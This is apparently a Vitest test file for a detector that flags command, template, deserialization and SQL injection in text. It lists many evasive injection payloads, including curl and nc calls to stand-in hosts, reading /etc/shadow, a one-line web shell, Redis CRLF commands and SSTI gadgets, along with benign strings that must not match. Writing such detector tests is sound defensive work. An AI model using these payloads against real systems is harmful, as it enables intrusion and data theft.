import { describe, expect, it } from "vitest";
import { inspectText } from "../engine/inspect-text.ts";

const rulesOf = (text: string): readonly string[] => inspectText(text).map(({ rule }) => rule);

describe("commands in their less usual forms", () => {
  it.each([
    // Expansions of nothing, and quotes, inside of a name.
    ["wh<()oami", "command.split-word"],
    ["cu$@rl example.org", "command.split-word"],
    ["'w'get example.org", "command.split-word"],
    // Braces without a space.
    ["{,ipconfig}", "command.brace"],
    ['{,$"uname",}', "command.brace"],
    ["k(){ k|k& };k", "command.shellshock"],
    // Commands that start others.
    [";flock -u / id", "command.chain"],
    ["x;gdb -nx", "command.chain"],
    ["7|zcat notes.gz", "command.pipe"],
    ["--host=`id`-a", "command.backtick"],
    ["/usr/bin/id", "command.whole"],
    ["ipconfig /all", "command.whole"],
    // Spaces as forms write them.
    ["+dir+c:+|", "command.whole"],
    // Where a command writes to, or reads from.
    ["whoami > /srv/menu.html", "command.whole"],
    ["ls -l >> menu.txt'", "command.whole"],
    ["tac</etc/motd", "command.whole"],
    // Expansions of nothing: programs and variables that are not there.
    ["who$(k)am$(k)i", "command.split-word"],
    ["nl /etc$kk/motd", "command.variable-trick"],
    ["/bin/cat$kk menu", "command.variable-trick"],
    // Wildcards in the names of programs and directories.
    ["/us?/menu", "command.glob"],
    ["/bin/u?ame", "command.glob"],
    ["; ip link", "command.chain"],
    ["x;curl evil.example", "command.chain"],
    ["x | curl evil.example/x", "command.pipe"],
    ["x && ping evil.example", "command.chain"],
    ["x; host evil.example", "command.chain"],
    ["; uniq menu", "command.chain"],
    // Code of scripts, of which the rest is cut off, and of Java.
    ["';print_r(menu());//", "command.code"],
    ['".exit(md5(7));#', "command.code"],
    ["java.lang.Runtime.getRuntime().exec('menu')", "command.run-function"],
    ["\";$k = 'men'.'u'; $k( 'x' );//", "command.code"],
    ["'; $k[0]('menu');", "command.code"],
    // What cmd.exe is given to run.
    ["/c whoami 'menu", "command.windows"],
    ["/k dir c:\\", "command.windows"],
    ["echo %PATHEXT%", "command.whole"],
    // Programs by their path, letters by their number, options that run programs.
    ["/bin/nc 192.0.2.7 7", "command.whole"],
    ["k=$'id\\x20-u'", "command.variable-trick"],
    ["ssh '-oProxyCommand=\"menu\"' k", "command.option"],
    ["--checkpoint-action=exec=menu", "command.option"],
    // Names in pieces, and letters apart, as PowerShell and shells put them together.
    ["7; & ('i'+'ex') menu", "command.split-word"],
    ['.("get"+"-process")', "command.split-word"],
    ["7;i`E`x(menu)", "command.split-word"],
    [";\\u\\n\\a\\m\\e -a", "command.split-word"],
    ["table $(Start-Sleep -Seconds 7) of ten", "command.substitution"],
    ["menu.jpg&calc.exe&.jpg", "command.windows"],
    ["whoami|", "command.whole"],
    ["id;", "command.whole"],
    ["\\necho MENU\\nexit", "command.newline"],
    ["{{7+7}}", "command.template"],
    ["/usr/bin/id|", "command.whole"],
    ["/bin/ls -al", "command.whole"],
    // Backticks in the name of a file.
    ["menu-`sleep 7`.png", "command.backtick"],
    ["`id`.pdf", "command.backtick"],
    ["192.0.2.7;`printf k`", "command.backtick"],
    // Lines of the protocols of Redis and memcached.
    ["menu\r\nCONFIG SET dir /srv\r\nSAVE", "command.newline"],
    ["*1\r\n$8\r\nflushall\r\n", "command.newline"],
    ["menu\r\nset soup 0 60 4\r\nleek", "command.newline"],
    ["menu\r\nSET session:7:role cook\r\n", "command.newline"],
    ["menu%0d%0aid%0d%0a", "command.newline"],
    ["k;if [ 7 -gt 3 ];then sleep 7;fi", "command.chain"],
    ["<esi:include src=menu>", "command.server-include"],
    // Programs and settings before the command, and variables that are run.
    ["7; exec id", "command.chain"],
    ["7 && env id", "command.chain"],
    ["7|setsid sh", "command.pipe"],
    ["7; LD_PRELOAD=/srv/k.so id", "command.chain"],
    ["7;k=uname;$k", "command.variable-trick"],
    ["k=i;m=d;$" + "{k}$m", "command.variable-trick"],
    // Values that are a command as a whole.
    ["sh -c id", "command.whole"],
    ["/bin/sh -c id", "command.whole"],
    ["c^m^d /c dir", "command.split-word"],
    ["base64 /etc/shadow", "command.whole"],
    ["echo k >> /srv/menu.php", "command.whole"],
    // Options that name a program, or make one of what they name (CWE-88).
    ["--upload-pack=id", "command.option"],
    ["x --to-command='sh /srv/k'", "command.option"],
    ["-o ProxyCommand=id", "command.option"],
    ["-c core.sshCommand=id", "command.option"],
    ["ext::sh -c id", "command.option"],
    ["-sOutputFile=%pipe%id", "command.interpreter"],
    // Windows and its tables.
    ["x & start calc.exe", "command.background"],
    ["7 & msiexec /q /i k.msi", "command.background"],
    ["; Get-ChildItem Env:", "command.chain"],
    ["=cmd|'/c menu'!A7", "command.windows"],
    // Languages: what is read back, called by its name, or handed to a server page.
    ["!!python/object/apply:menu.k [7]", "command.code"],
    ["--- !ruby/object:Menu::Soup", "command.code"],
    ["!!javax.menu.Soup [!!java.net.URL ['x']]", "command.code"],
    ["';('so'.'up')('7');//", "command.code"],
    ["(chr(115).chr(111).chr(117))('7');", "command.code"],
    ["<%eval request('k')%>", "command.code"],
    ["<cfexecute name='menu'>", "command.code"],
    ["array_map('system', array('menu'))", "command.run-function"],
    ["$k = 'passthru'; $k('menu')", "command.run-function"],
    ["\\immediate\\write18{menu}", "command.run-function"],
    // Expressions of servers.
    ["new java.lang.ProcessBuilder(k).start()", "command.template"],
    ["x.getClass().forName('k.Menu')", "command.template"],
    ["%{(#k='menu').(#m=7)}", "command.template"],
    ["$" + "{(#_memberAccess['k']=true)}", "command.template"],
    ["redirect:$" + "{#k=7}", "command.template"],
    ["'freemarker.template.utility.ObjectConstructor'?new()", "command.template"],
    ["{{['menu']|map('passthru')}}", "command.template"],
    ["{{_self.env.getFilter('menu')}}", "command.template"],
    ["#{7*7}", "command.template"],
    ["#{%x(ovenctl)}", "command.template"],
    ["<ref>exec(java.lang.Runtime.getRuntime(),'oven')</ref>", "command.template"],
    ["@(7*7)", "command.template"],
    ["@System.Diagnostics.Process.Start('menu')", "command.template"],
    ["[System.Diagnostics.Process]::Start('menu')", "command.template"],
    ["{$smarty.version}", "command.template"],
    ["#set($k = 'menu') $k.getClass().forName('k')", "command.template"],
    ["$" + "{script:js:menu()}", "command.lookup"],
  ])("VAL-10: %s meets %s", (text, rule) => {
    expect(rulesOf(text)).toContain(rule);
  });

  it.each([
    "authentication failure; logname= uid=0 tty=ssh",
    "{,and so on} or {, , }",
    "f(){ return g() }",
    "Don't w'rap it; it's rock'n'roll",
    "+49+30+1234567",
    "Is it in /usr/bin? Or in /bin/cat?",
    "GET /plans/menu?from=june",
    "pay cat$ 5 for a $kk or the etc$",
    "print(menu); // shows the menu",
    "node > 18, python > 3.8",
    "matcher.exec('menu')",
    "$menu = $make('soup'); // ours",
    "/r cooking and /c net carbohydrates",
    "echo 50 % and 20 %",
    "The price is $'7' and tar --checkpoint-action=dot",
    "[see above]; then sleep well",
    "rsync --rsh=ssh, tar --use-compress-program=bzip2, and --exec=path",
    "at java.lang.ProcessBuilder.start(ProcessBuilder.java:1029)",
    "java.lang.Runtime and its friends; java is a language, and command an interface",
    "a == b; time heals, exec sums it up, env is short for environment",
    "PATH=x; $y is a price, cost=5; $5 each",
    "The system | filter(rows) | map(names) and usort it",
    "Colour #{name}, mail @(home), 7 #{k * 2}",
    "Set $mode = 'systemic'; k = 'execute'",
    "x & calculate; Writer & Calc",
    "Python & Java 8, Word & Notepad 7",
    "<%= title %> and <% if (k) { %>",
    "Wow!!python/ruby!",
  ])("VAL-15: %s", (text) => {
    expect(rulesOf(text)).toEqual([]);
  });

  it("VAL-10: SQL is read with the spaces of forms as well", () => {
    expect(rulesOf("8'+and+'k'+like+'k'+--")).toContain("sqli.tautology");
    expect(rulesOf("4+order+by+4")).toContain("sqli.order-probe");
  });

  it("VAL-10: SQL is read without the comments that end with their lines", () => {
    expect(rulesOf("7'%23kq%0Aor%23zw%0A7=7")).toContain("sqli.tautology");
    expect(rulesOf("7' and--kq\n'a'='a")).toContain("sqli.tautology");
    expect(rulesOf("# Soup\n\nSalt --not too much\nor pepper\n")).toEqual([]);
  });
});
